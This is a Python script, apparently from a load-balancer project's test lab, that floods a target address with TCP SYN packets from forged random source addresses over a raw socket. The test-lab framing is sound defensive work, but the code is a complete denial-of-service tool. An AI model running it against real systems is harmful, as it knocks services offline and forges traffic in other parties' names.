#!/usr/bin/env python3
"""Spoofed-source TCP SYN flood for the xvs lab (crates/lab): sends SYNs
to a VIP from random source addresses and ports, as an attacker who never
completes a handshake does, so a test can see what the director's
connection table does under the flood.

Usage: lab-synflood.py TARGET PORT --count N --duration S --sources CIDR
                       [--seed K]

TARGET is an IPv4 address (the VIP); --sources an IPv4 prefix such as
198.18.0.128/25 from which every SYN takes a random host address (the
network and broadcast addresses excluded) and a random port 1024-65535.
The N SYNs are spread evenly over S seconds, in 10 ms slices. Run it in
the client namespace: the kernel routes the packets (IP_HDRINCL raw
socket, so the source is whatever the packet says) and resolves the
VIP's MAC. --seed makes the addresses, ports and sequence numbers
repeatable.

Prints one JSON line: {"sent": SYNs sent, "errors": sends the kernel
refused (ENOBUFS and the like), "seconds": time taken}.

Exits 0 after sending (refused sends are in the report); 2 on a usage
error. Needs CAP_NET_RAW. Standard library only (Python 3.11).
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

SLICE = 0.01  # seconds per pacing slice
TCP_SYN = 0x02


def checksum(data: bytes) -> int:
    """RFC 1071 Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    """An IPv4 header and a TCP SYN with an MSS option (what a real
    client's SYN carries; the director keeps no state on options)."""
    mss = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(mss)) // 4
    tcp = struct.pack(
        "!HHIIBBHHH", sport, dport, seq, 0, offset << 4, TCP_SYN, 64240, 0, 0
    ) + mss
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ident = random.getrandbits(16)
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, total, ident, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst,
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("target")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--sources", required=True)
    p.add_argument("--seed", type=int, default=None)
    args = p.parse_args()
    try:
        dst = ipaddress.IPv4Address(args.target)
        net = ipaddress.IPv4Network(args.sources, strict=False)
    except ValueError as e:
        p.error(str(e))
    if not 0 < args.port < 65536 or args.count < 1 or not args.duration > 0:
        p.error("PORT must be 1-65535, --count at least 1, --duration positive")
    if net.num_addresses < 4:
        p.error("--sources needs a prefix of /30 or shorter")
    random.seed(args.seed)
    first = int(net.network_address) + 1
    last = int(net.broadcast_address) - 1

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    dst_b = dst.packed
    slices = max(1, round(args.duration / SLICE))
    sent = errors = 0
    start = time.monotonic()
    for k in range(slices):
        # Even spread: slice k ends with count*(k+1)/slices sent.
        due = args.count * (k + 1) // slices
        while sent + errors < due:
            src = struct.pack("!I", random.randint(first, last))
            pkt = syn_packet(
                src, dst_b, random.randint(1024, 65535), args.port,
                random.getrandbits(32),
            )
            try:
                sock.sendto(pkt, (str(dst), 0))
                sent += 1
            except OSError:
                errors += 1
        pause = start + (k + 1) * SLICE - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    print(json.dumps({
        "sent": sent,
        "errors": errors,
        "seconds": round(time.monotonic() - start, 3),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
